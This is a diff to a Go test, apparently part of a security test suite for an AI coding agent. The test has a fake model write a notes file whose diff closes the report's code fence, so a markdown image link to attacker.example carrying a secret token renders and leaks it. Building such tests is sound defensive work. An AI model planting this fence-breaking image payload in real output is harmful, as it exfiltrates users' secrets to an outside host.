@@ -95,12 +95,15 @@ func TestRenderingExfiltration(t *testing.T) {
 
 	attempt(t, famRender, "a written file closes the report's diff fence", func(t *testing.T) outcome {
 		tok := token(t)
-		content := fmt.Sprintf("# notes\n\n```\n\n![](https://attacker.example/?t=%s)\n", tok)
+		// A context line " ```" of the diff closes the report's fence; the
+		// added line after it is markdown again.
+		before := "# notes\n\n```\nold\n"
+		content := before + fmt.Sprintf("![](https://attacker.example/?t=%s)\n", tok)
 		args, _ := json.Marshal(map[string]string{"path": "NOTES.md", "content": content})
 		s := newServer(t, []fakemodel.Turn{
 			{ToolCalls: []fakemodel.ToolCall{call("c1", "write_file", string(args))}, FinishReason: "tool_calls"},
 			{Text: "Wrote the notes.", FinishReason: "stop"},
-		}, map[string]string{"main.go": "package main\n"}, serverOpts{})
+		}, map[string]string{"main.go": "package main\n", "NOTES.md": before}, serverOpts{})
 		r, err := s.run(t, map[string]any{"prompt": "write notes", "mode": "edit"})
 		if err != nil {
 			t.Fatal(err)
